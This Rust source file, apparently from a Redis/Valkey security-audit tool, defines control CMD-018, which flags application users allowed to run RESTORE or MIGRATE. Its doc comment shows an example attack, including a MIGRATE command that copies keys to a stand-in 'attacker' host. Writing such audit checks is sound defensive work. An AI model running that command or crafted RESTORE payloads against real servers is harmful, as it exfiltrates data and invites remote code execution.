//! CMD-018.

use redan_model::{Server, Severity};

use crate::control;
use crate::control::Context;
use crate::identity::{Forbidden, forbid};
use crate::outcome::Outcome;

control! {
    /// No application user may run `RESTORE` or `MIGRATE`.
    ///
    /// # Why
    /// `RESTORE` feeds bytes of the sender's choice to the parsers of the dump format, where
    /// most of this year's remote-code-execution bugs were (CVE-2026-25243 among them).
    /// `MIGRATE` makes the server connect anywhere and hand over keys. `+@write` and
    /// `+@keyspace` contain both.
    ///
    /// # Attack
    /// `RESTORE k 0 <crafted>`; or `MIGRATE attacker 6379 "" 0 5000 COPY KEYS …`.
    ///
    /// # Fix
    /// `ACL SETUSER name -restore -migrate`; both are in `@dangerous`.
    ///
    /// # Sources
    /// - Redis release notes (<https://redis.io/docs/latest/operate/oss_and_stack/stack-with-enterprise/release-notes/redisce/>)
    /// - seen on Redis 7.0.15, Redis 8.2.3 and Valkey 9.1.2
    "CMD-018", "application-restores-payloads";
    title: "Applications may hand the server serialised values or send keys away",
    severity: High, aspect: Commands,
    owasp: ["A01:2021", "A08:2021"], iso27001: ["A.5.18", "A.8.3"], pci: ["6.2.4", "7.2.2"], nist_csf: ["PR.AA-05"], ley1581: [],
    consequence_of: ["AUTH-001", "CMD-001", "CMD-003"],
    check: Server(check),
}

fn check(server: &Server, context: &Context<'_>) -> Outcome {
    forbid(
        server,
        context,
        &Forbidden {
            commands: &["restore", "migrate"],
            effect: "parses bytes of the sender's choice or sends keys to another host",
            severity: Severity::High,
        },
    )
}
